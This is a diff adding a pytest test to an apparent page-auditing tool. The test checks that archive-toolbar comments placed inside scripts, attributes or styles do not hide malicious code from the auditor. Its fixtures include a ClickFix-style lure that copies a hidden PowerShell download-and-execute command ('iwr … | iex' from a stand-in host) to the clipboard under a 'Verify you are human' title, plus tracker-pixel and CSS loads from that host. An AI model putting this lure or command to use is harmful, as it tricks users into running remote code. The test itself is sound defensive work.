@@ -509,3 +509,35 @@ def test_a_wrapper_on_a_host_the_marks_name_is_that_hosts_code(
     assert page.replay is not None
     assert [h.host for h in page.third_party_hosts] == ["evil-track.test"]
     assert [f.kind for f in page.findings] == ["hidden-iframe"]
+
+
+_CLICKFIX = ('navigator.clipboard.writeText("powershell -w hidden -c iwr evil-track.test/a|iex");'
+             'document.title="Verify you are human";')
+
+
+@pytest.mark.parametrize("page", [
+    # the toolbar's comments inside a script are JavaScript comments: the code between runs
+    f"<script>\n{_TOOLBAR[0]}\n{_CLICKFIX}\n{_TOOLBAR[1]}\n</script>",
+    f'<script>var a="{_TOOLBAR[0]}";{_CLICKFIX}var b="{_TOOLBAR[1]}";</script>',
+    # inside an attribute's value, a style, a script's string before the head include's end
+    f'<img alt="{_TOOLBAR[0]}" src="//evil-track.test/p.gif" width="1" height="1" '
+    f'title="{_TOOLBAR[1]}">',
+    f"<style>{_TOOLBAR[0]}@import url(//evil-track.test/a.css);{_TOOLBAR[1]}</style>",
+    f'<script>var h="<head>";{_CLICKFIX}//<!-- End Wayback Rewrite JS Include -->\n</script>',
+    # an escaped script runs past its first end tag
+    f"<script><!--<script></script>{_TOOLBAR[0]}{_CLICKFIX}{_TOOLBAR[1]}--></script>",
+])
+def test_chrome_comments_inside_a_tag_or_a_script_are_no_chrome(
+    page: str, engine: Engine, catalogue: Catalogue
+) -> None:
+    # audited as the same page with the comments saying something else
+    def audit(text: str) -> PageReport:
+        text = (f"<!DOCTYPE html>\n<html><body>{_WOMBAT_OF_SITE}\n{text}\n"
+                "<article><p>The council voted.</p></article></body></html>")
+        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                              engine, catalogue)
+
+    dressed = audit(page)
+    bare = audit(page.replace("WAYBACK", "WEATHER").replace("Wayback", "Weather"))
+    assert dressed.replay is not None
+    assert _what_it_names(dressed) == _what_it_names(bare)
